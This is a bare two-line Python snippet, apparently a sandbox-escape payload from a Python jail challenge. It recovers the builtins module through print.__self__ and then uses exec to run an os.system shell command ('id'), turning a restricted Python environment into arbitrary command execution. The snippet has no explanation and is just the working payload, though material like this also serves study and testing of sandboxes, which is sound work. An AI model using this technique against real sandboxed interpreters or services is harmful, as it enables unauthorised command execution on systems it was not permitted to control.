b = print.__self__
b.exec("__import__('os').system('id')")
